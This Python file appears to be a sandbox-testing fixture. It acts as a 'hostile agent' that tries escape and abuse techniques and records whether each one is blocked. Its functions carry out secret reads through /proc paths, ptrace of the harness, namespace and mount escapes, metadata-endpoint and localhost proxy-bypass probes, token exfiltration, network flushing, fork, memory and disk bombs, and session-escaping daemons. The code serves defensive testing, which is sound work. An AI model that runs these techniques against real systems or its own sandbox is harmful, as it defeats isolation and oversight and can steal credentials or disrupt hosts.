"""A hostile agent: started as a harness's program, it tries everything and writes down what came of each attempt.

Needs nothing but the standard library. `~/facts.json` says what there is on the machine outside; `~/results.json`
gets {attempt: what it got hold of, "" for nothing}. The first attempts are controls, which must succeed: they show
that the means work.
"""

import ctypes
import errno
import json
import os
import platform
import resource
import signal
import socket
import struct
import subprocess
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
SECONDS = 2.0
PROXY = ("127.0.0.1", 3128)
REACHED = b"reached"
"""What every server outside says first."""

CALLS = {
    "x86_64": {"keyctl": 250, "open_by_handle_at": 304, "io_uring_setup": 425, "pidfd_open": 434, "pidfd_getfd": 438},
    "aarch64": {"keyctl": 219, "open_by_handle_at": 265, "io_uring_setup": 425, "pidfd_open": 434, "pidfd_getfd": 438},
}[platform.machine()]
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = 0x00020000, 0x10000000, 0x40000000, 0x20000000
MS_REMOUNT, MS_BIND = 32, 4096
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
AF_VSOCK, AF_ALG, AF_PACKET = 40, 38, 17
SOCKETS = (
    *("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"),
    *("/run/containerd/containerd.sock", "/run/podman/podman.sock", "/tmp/.X11-unix/X0"),
)

INHERITED = {}
for _entry in Path("/proc/self/fd").iterdir():
    with suppress(OSError):
        if int(_entry.name) > 2:
            INHERITED[_entry.name] = str(_entry.readlink())

Facts = dict[str, Any]
Attempt = Callable[[Facts], str]
ATTEMPTS: dict[str, Attempt] = {}


def attempt(work: Attempt) -> Attempt:
    ATTEMPTS[work.__name__] = work
    return work


def call(name: str, *arguments: Any) -> int:
    """A function of the C library, or a system call by name; minus the error number when it fails."""
    result = LIBC.syscall(CALLS[name], *arguments) if name in CALLS else getattr(LIBC, name)(*arguments)
    return int(result) if result >= 0 else -ctypes.get_errno()


def in_child(work: Callable[[], int]) -> int:
    """What `work` returns in a process of its own; -1 when that dies of it."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        with suppress(BaseException):
            os.write(writer, str(work()).encode())
        os._exit(0)
    os.close(writer)
    os.waitpid(child, 0)
    with os.fdopen(reader, "rb") as told:
        return int(told.read() or b"-1")


def all_of(found: Iterator[str]) -> str:
    return ", ".join(found)


# Controls.


@attempt
def control_own_files(facts: Facts) -> str:
    for folder in (Path.home(), Path("/tmp"), Path(os.environ["TMPDIR"])):
        (folder / "mine").write_text("x")
    return "wrote at home and in /tmp"


@attempt
def control_own_loopback(facts: Facts) -> str:
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname(), SECONDS):
        return "connected to itself"


@attempt
def control_allowed_host(facts: Facts) -> str:
    host, port = facts["allowed"]
    return through_proxy(f"http://{host}:{port}/", f"{host}:{port}")


@attempt
def control_see_the_repository(facts: Facts) -> str:
    return (Path.cwd() / "hello.txt").read_text()


# Files.


@attempt
def read_secrets(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for path in facts["secrets"]:
            for view in (path, f"/proc/1/root{path}", f"/proc/self/root{path}", f"/proc/1/cwd/../../../..{path}"):
                with suppress(OSError), Path(view).open("rb") as file:
                    yield f"{view}: {file.read(20)!r}"

    return all_of(found())


@attempt
def list_places(facts: Facts) -> str:
    def found() -> Iterator[str]:
        own = Path.home().parent
        for place in facts["places"]:
            with suppress(OSError):
                for entry in Path(place).iterdir():
                    if entry != own and entry.is_file():
                        yield str(entry)
        with suppress(OSError):
            yield from (str(entry) for entry in own.parent.iterdir() if entry != own)

    return all_of(found())


@attempt
def list_public_vault(facts: Facts) -> str:
    shown = {entry.name for entry in Path(facts["vault"]).iterdir()}
    return all_of(iter(shown - {"public"}))


@attempt
def write_outside(facts: Facts) -> str:
    def found() -> Iterator[str]:
        targets = ["/usr/local/bin/x", "/etc/passwd", "/etc/x", "/x", "/dev/x", "/var/x", *facts["programs"]]
        for target in (*targets, str(Path.home().parent / ".driver" / "sandbox.json")):
            path = Path(target) / "x" if Path(target).is_dir() else Path(target)
            with suppress(OSError), path.open("ab"):
                yield str(path)

    return all_of(found())


@attempt
def change_own_record(facts: Facts) -> str:
    def found() -> Iterator[str]:
        folder = Path.home().parent / ".driver"
        for change in (folder.rmdir, lambda: folder.rename(folder.with_name("moved")), (folder / "x").mkdir):
            with suppress(OSError):
                change()
                yield "changed it"
        yield from (entry.name for entry in folder.iterdir())

    return all_of(found())


@attempt
def devices(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for name, number in (("disk", os.makedev(8, 0)), ("disk", os.makedev(254, 0)), ("mem", os.makedev(1, 1))):
            with suppress(OSError):
                os.mknod(Path.home() / f"{name}-{number}", 0o600 | 0o060000, number)
                yield f"made {name}"
        for path in ("/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/net/tun", "/proc/kcore"):
            with suppress(OSError), Path(path).open("rb"):
                yield path

    return all_of(found())


@attempt
def mounts_and_namespaces(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for name, flag in (
            ("user", CLONE_NEWUSER),
            ("mount", CLONE_NEWNS),
            ("net", CLONE_NEWNET),
            ("pid", CLONE_NEWPID),
        ):
            for flags in (flag, CLONE_NEWUSER | flag):
                if in_child(lambda flags=flags: call("unshare", flags)) == 0:
                    yield f"a new {name} namespace"
        if call("mount", b"none", b"/tmp", b"tmpfs", 0, None) >= 0:
            yield "mount"
        for path in (b"/", b"/usr", b"/etc"):
            if call("mount", None, path, None, MS_REMOUNT | MS_BIND, None) >= 0:
                yield f"writable {path!r}"
        if (
            call("umount2", str(Path.home().parent / ".driver").encode(), 2) >= 0
            or call("umount2", b"/proc/sys", 2) >= 0
        ):
            yield "umount"
        if in_child(lambda: call("chroot", b"/tmp")) == 0:
            yield "chroot"
        handle = struct.pack("=Ii", 8, 1) + struct.pack("=II", 2, 0)
        if call("open_by_handle_at", os.open("/", os.O_RDONLY), handle, 0) >= 0:
            yield "a file by its number"
        if call("sethostname", b"mine", 4) >= 0:
            yield "host name"
        for kind in ("user", "net", "mnt", "pid"):
            with suppress(OSError):
                namespace = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
                if in_child(lambda namespace=namespace: call("setns", namespace, 0)) == 0:
                    yield f"setns {kind}"

    return all_of(found())


@attempt
def capabilities(facts: Facts) -> str:
    lines = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    held = [name for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb") if int(lines[name], 16)]
    return all_of(iter([*held, *([] if lines["NoNewPrivs"] == "1" else ["may gain privileges"])]))


@attempt
def kernel_settings(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for path in (
            *("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory"),
            *("/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"),
        ):
            with suppress(OSError), Path(path).open("r+b"):
                yield path
        if Path("/sys/fs/cgroup").exists():
            yield "control groups"

    return all_of(found())


@attempt
def kernel_keys(facts: Facts) -> str:
    return "a keyring" if call("keyctl", 0, -3, 0) >= 0 else ""


@attempt
def io_uring(facts: Facts) -> str:
    return "a ring" if call("io_uring_setup", 4, ctypes.create_string_buffer(256)) >= 0 else ""


# Processes.


@attempt
def see_others(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit() and entry.name != "1":
                with suppress(OSError):
                    said = (entry / "cmdline").read_bytes() + (entry / "environ").read_bytes()
                    if any(mark.encode() in said for mark in facts["marks"]):
                        yield f"{entry.name}: {said[:60]!r}"

    return all_of(found())


@attempt
def reach_processes_outside(facts: Facts) -> str:
    """They have no number in here: what has it is our own."""

    def found() -> Iterator[str]:
        for pid in facts["pids"]:
            if Path(f"/proc/{pid}").exists():
                continue
            with suppress(OSError):
                os.kill(pid, 0)
                yield f"signal to {pid}"
            if call("ptrace", PTRACE_SEIZE, pid, 0, 0) >= 0:
                yield f"ptrace of {pid}"
            with suppress(OSError), Path(f"/proc/{pid}/mem").open("rb"):
                yield f"memory of {pid}"

    return all_of(found())


@attempt
def into_the_harness(facts: Facts) -> str:
    """Its token, and its sockets, which belong to the machine's network."""

    def found() -> Iterator[str]:
        for request in (PTRACE_ATTACH, PTRACE_SEIZE):
            if call("ptrace", request, 1, 0, 0) >= 0:
                yield "ptrace"
        for name in ("mem", "environ", "maps", "fd/3", "root/etc/hosts"):
            with suppress(OSError), Path(f"/proc/1/{name}").open("rb"):
                yield name
        for number in range(20):
            with suppress(OSError):
                yield f"descriptor {number}: {Path(f'/proc/1/fd/{number}').readlink()}"
        if (handle := call("pidfd_open", 1, 0)) >= 0 and call("pidfd_getfd", handle, 3, 0) >= 0:
            yield "its listener"

    return all_of(found())


@attempt
def inherited_descriptors(facts: Facts) -> str:
    return all_of(f"{number}: {link}" for number, link in INHERITED.items())


@attempt
def real_credentials(facts: Facts) -> str:
    value = os.environ["API_TOKEN"]
    if not value.startswith("stub_api_token_"):
        return value
    return all_of(name for name, held in os.environ.items() if facts["digest"] == digest(held))


def digest(text: str) -> str:
    import hashlib

    return hashlib.sha256(text.encode()).hexdigest()


# Network.


def greeted(address: tuple[str, int], family: int = socket.AF_INET) -> bytes:
    """What is heard at an address after a request for anything; b"" for nothing."""
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(SECONDS)
        try:
            sock.connect(address)
            sock.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % address[0].encode())
            return sock.recv(4096)
        except OSError:
            return b""


@attempt
def loopback_of_the_machine(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for port in facts["ports"]:
            for host, family in (
                ("127.0.0.1", socket.AF_INET),
                ("127.0.0.2", socket.AF_INET),
                ("::1", socket.AF_INET6),
            ):
                if said := greeted((host, port), family):
                    yield f"{host}:{port} {said[:40]!r}"

    return all_of(found())


@attempt
def machine_by_its_addresses(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for host in facts["addresses"]:
            for port in facts["ports"]:
                said = greeted((host, port))
                if said and not refused(said):
                    yield f"{host}:{port} {said[:40]!r}"

    return all_of(found())


def refused(said: bytes) -> bool:
    head = said.partition(b"\r\n\r\n")[0].lower()
    return said.startswith(b"HTTP/1.1 403 ") and b"x-vault-blocked" in head


@attempt
def metadata_address(facts: Facts) -> str:
    said = [greeted((host, 80)) for host in ("169.254.169.254", "169.254.170.2", "100.100.100.200")]
    said.append(through_proxy("http://169.254.169.254/latest/meta-data/", "169.254.169.254").encode())
    return all_of(repr(answer[:60]) for answer in said if answer and not refused(answer))


@attempt
def udp(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for host in ("127.0.0.1", *facts["addresses"], "192.0.2.1"):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock, suppress(OSError):
                sock.settimeout(0.3)
                sock.sendto(b"hello", (host, facts["udp_port"]))
                yield f"answer from {host}: {sock.recv(100)!r}"

    return all_of(found())


@attempt
def dns_of_ones_own(facts: Facts) -> str:
    """A question to a server elsewhere is the vault's to answer, and it does not know this name."""
    question = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + b"\x09forbidden\x07example\x00" + struct.pack("!HH", 1, 1)

    def found() -> Iterator[str]:
        for server in ("192.0.2.53", "8.8.8.8", "127.0.0.1"):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock, suppress(OSError):
                sock.settimeout(SECONDS)
                sock.sendto(question, (server, 53))
                answers = struct.unpack_from("!H", sock.recv(512), 6)[0]
                if answers:
                    yield f"{answers} answers from {server}"

    return all_of(found())


@attempt
def other_sockets(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for name, family, kind, protocol in (
            ("raw", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
            ("raw 6", socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
            ("ping", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
            ("packet", AF_PACKET, socket.SOCK_RAW, 0x0300),
            ("vsock", AF_VSOCK, socket.SOCK_STREAM, 0),
            ("alg", AF_ALG, socket.SOCK_SEQPACKET, 0),
        ):
            with suppress(OSError), socket.socket(family, kind, protocol):
                yield name
        for host in facts["addresses"]:
            with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as sctp:
                sctp.settimeout(0.5)
                sctp.connect((host, facts["ports"][0]))
                yield "sctp"

    return all_of(found())


@attempt
def ipv6(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for host in (*facts["addresses6"], "2001:db8::1", "fe80::1%lo", "ff02::1%lo"):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                with suppress(OSError), socket.socket(socket.AF_INET6, kind) as sock:
                    sock.settimeout(0.5)
                    sock.connect((host, facts["udp_port"] if kind == socket.SOCK_DGRAM else facts["ports"][0]))
                    sock.send(b"hello")
                    if kind == socket.SOCK_STREAM or sock.recv(10):
                        yield host

    return all_of(found())


@attempt
def change_the_network(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for command in (
            ["nft", "flush", "ruleset"],
            ["ip", "link", "set", "lo", "down"],
            ["ip", "route", "flush", "all"],
        ):
            for folder in ("/usr/sbin", "/sbin", "/usr/bin"):
                if Path(folder, command[0]).exists():
                    done = subprocess.run([f"{folder}/{command[0]}", *command[1:]], capture_output=True)
                    if done.returncode == 0:
                        yield " ".join(command)
                    break

    return all_of(found())


@attempt
def local_sockets(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for path in (*SOCKETS, *facts["unix"]):
            with suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                sock.settimeout(SECONDS)
                sock.connect(path.replace("@", "\0", 1) if path.startswith("@") else path)
                yield path

    return all_of(found())


# The vault.


def through_proxy(target: str, host: str, *, method: str = "GET", then: bytes = b"") -> str:
    """What the explicit proxy answers; for CONNECT, what is heard then."""
    with suppress(OSError), socket.create_connection(PROXY, SECONDS) as sock:
        sock.settimeout(2 * SECONDS)
        sock.sendall(f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        said = b""
        with suppress(OSError):
            while data := sock.recv(65536):
                said += data
                if then and said.endswith(b"\r\n\r\n") and said.startswith(b"HTTP/1.1 200"):
                    sock.sendall(then)
                    then = b""
        return said.decode(errors="replace")
    return ""


@attempt
def round_the_rules(facts: Facts) -> str:
    def found() -> Iterator[str]:
        for port in facts["ports"]:
            for host in (
                *("127.0.0.1", "localhost", "LOCALHOST.", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "0.0.0.0"),
                *("[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "127.0.0.1%2f", *facts["addresses"]),
            ):
                for said in (
                    through_proxy(f"http://{host}:{port}/", f"{host}:{port}"),
                    through_proxy(f"{host}:{port}", f"{host}:{port}", method="CONNECT", then=b"GET / HTTP/1.0\r\n\r\n"),
                ):
                    if REACHED.decode() in said or said.startswith("HTTP/1.1 2"):
                        yield f"{host}:{port} {said[:60]!r}"

    return all_of(found())


@attempt
def host_by_another_name(facts: Facts) -> str:
    """The request line names what is allowed, the header what is not; and the other way round."""
    allowed, forbidden = "{}:{}".format(*facts["allowed"]), f"127.0.0.1:{facts['ports'][0]}"
    said = [
        through_proxy(f"http://{forbidden}/", allowed),
        through_proxy(f"http://{allowed}@{forbidden}/", forbidden),
        through_proxy("/", forbidden),
    ]
    return all_of(repr(answer[:60]) for answer in said if REACHED.decode() in answer)


@attempt
def exfiltrate_a_stub(facts: Facts) -> str:
    """To a host that may be reached but is not the variable's."""
    host, port = facts["allowed"]
    stub = os.environ["API_TOKEN"]
    return (
        "" if f"path=/{stub} " in through_proxy(f"http://{host}:{port}/{stub}", f"{host}:{port}") else "it was swapped"
    )


# Bombs.


@attempt
def fork_bomb(facts: Facts) -> str:
    """As many processes as there may be. They are killed, and things go on."""
    children: list[int] = []
    try:
        while len(children) < 2 * facts["pids_limit"]:
            child = os.fork()
            if child == 0:
                signal.pause()
                os._exit(0)
            children.append(child)
    except OSError:
        pass
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
    return "" if len(children) < facts["pids_limit"] else f"{len(children)} processes"


@attempt
def memory_bomb(facts: Facts) -> str:
    def eat() -> int:
        with suppress(OSError):
            Path("/proc/self/oom_score_adj").write_text("1000")  # This one is to go, not the harness.
        return len(bytearray(b"x") * (2 * facts["memory_mb"] << 20)) >> 20

    got = in_child(eat)
    return "" if got < 0 else f"{got} MB"


@attempt
def shared_memory_bomb(facts: Facts) -> str:
    """In /dev/shm, the only place in memory to write to."""
    path = Path("/dev/shm/bomb")
    try:
        with path.open("wb") as file:
            for _ in range(1024):
                file.write(b"x" * (1 << 20))
    except OSError:
        return ""
    finally:
        path.unlink(missing_ok=True)
    return "1 GB"


@attempt
def one_large_file(facts: Facts) -> str:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    path = Path.home() / "large"
    try:
        with path.open("wb") as file:
            os.posix_fallocate(file.fileno(), 0, (facts["disk_mb"] + 16) << 20)
    except OSError as error:
        return "" if error.errno == errno.EFBIG else str(error)
    finally:
        path.unlink(missing_ok=True)
    return "no limit"


def fill_the_disk(facts: Facts) -> None:
    """In files none of which is too large, and which are not to be seen."""
    held = []
    while True:
        path = Path.home() / "part"
        held.append(path.open("wb"))
        os.posix_fallocate(held[-1].fileno(), 0, facts["disk_mb"] << 19)
        if len(held) % 2:
            path.unlink()
        else:
            path.rename(Path.home() / f"part{len(held)}")
        if len(held) == 3:
            time.sleep(3600)


def leave_daemons(facts: Facts) -> None:
    """Out of their session, without a parent, without the sandbox's environment, deaf to what can be ignored."""
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            os.execve("/bin/sleep", ["sleep", facts["daemon"]], {})


def main() -> None:
    facts = json.loads((Path.home() / "facts.json").read_text())
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    if facts["then"] == "fill":
        fill_the_disk(facts)
    results = {}
    for name, work in ATTEMPTS.items():
        began = time.monotonic()
        try:
            results[name] = work(facts)
        except Exception as error:
            results[name] = f"the attempt broke: {error!r}"
        print(f"{name}: {time.monotonic() - began:.1f} s", flush=True)
    leave_daemons(facts)
    unfinished = Path.home() / ".results.json"
    unfinished.write_text(json.dumps(results))
    unfinished.rename(Path.home() / "results.json")
    signal.pause()


if __name__ == "__main__":
    main()
